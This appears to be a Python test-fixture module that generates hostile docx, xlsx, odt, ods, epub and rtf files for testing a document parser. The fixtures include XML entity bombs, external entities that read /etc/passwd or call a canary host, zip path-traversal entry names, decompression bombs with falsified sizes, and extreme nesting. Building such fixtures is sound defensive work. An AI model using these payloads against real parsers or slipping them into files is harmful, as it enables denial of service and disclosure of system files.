"""Small hostile office documents and e-books: bombs and lies in zips of XML, and what is not where it should be."""

import io
import struct
import zipfile

from .hostile_cases import CANARY, case, zipped
from .hostile_markup import laughs

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_of(document: str, **more: bytes | str) -> bytes:
    """Return a docx whose main part is this XML."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return zipped({"[Content_Types].xml": types, "word/document.xml": document} | more)


def body(text: str) -> str:
    """Return the main part of a docx with one paragraph."""
    return f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'


@case("a.docx")
def docx_of_a_billion_laughs() -> bytes:
    return docx_of(laughs() + body("&l9; words"))


@case("a.docx")
def docx_with_external_entities() -> bytes:
    doctype = f'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{CANARY}/b">]>'
    return docx_of(f'<?xml version="1.0"?>{doctype}{body("&a;&b; words")}')


@case("a.docx")
def docx_linked_to_the_outside() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'TargetMode="External" Target="{CANARY}/template.dotm"/></Relationships>'
    )
    return docx_of(body("words"), **{"word/_rels/document.xml.rels": relations})


@case("a.docx")
def docx_nested_100_000_deep() -> bytes:
    depth = 100_000
    return docx_of(body("<w:x>" * depth + "deep" + "</w:x>" * depth))


@case("a.docx")
def docx_tables_nested_3_000_deep() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc><w:p/>", "<w:p/></w:tc></w:tr></w:tbl>"
    inside = opened * 3000 + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + closed * 3000
    return docx_of(f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>')


@case("a.docx")
def docx_with_names_that_leave_it() -> bytes:
    return docx_of(body("words"), **{"../../../../tmp/filemill-slipped": b"x", "/etc/filemill-slipped": b"x"})


@case("a.docx")
def docx_with_empty_parts() -> bytes:
    return docx_of("", **{"word/styles.xml": b"", "docProps/core.xml": b"", "word/numbering.xml": b""})


@case("a.docx")
def docx_that_unpacks_to_gigabytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(256):
                part.write(b" " * (1 << 20))
    return buffer.getvalue()


@case("a.docx")
def docx_that_lies_about_its_size() -> bytes:
    """The directory says 100 bytes; what is packed unpacks to 256 MiB."""
    whole = docx_that_unpacks_to_gigabytes()
    return whole.replace(struct.pack("<I", 256 << 20), struct.pack("<I", 100))


@case("a.xlsx")
def xlsx_with_one_cell_in_each_corner() -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
        "</sheetData></worksheet>"
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"/>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/worksheet" Target="worksheets/s1.xml"/></Relationships>',
            "xl/worksheets/s1.xml": sheet,
        }
    )


@case("a.odt")
def odt_with_a_billion_spaces() -> bytes:
    """One element may stand for any number of spaces, or of table cells."""
    text = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:text>'
        '<text:p>words<text:s text:c="2000000000"/></text:p><table:table><table:table-row '
        'table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        "</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": text})


@case("a.ods")
def ods_with_a_billion_cells() -> bytes:
    text = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="S"><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="10000"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": text})


@case("a.epub")
def epub_that_names_itself() -> bytes:
    spine = '<itemref idref="a"/><itemref idref="c"/>' * 1000
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
            "a.opf": '<package><manifest><item id="a" href="a.opf"/><item id="b" href="../../../etc/passwd"/>'
            f'<item id="c" href="{CANARY}/c"/></manifest><spine>{spine}'
            "</spine></package>",
        }
    )


@case("a.rtf")
def rtf_nested_a_million_deep() -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"deep" + b"}" * 1_000_001
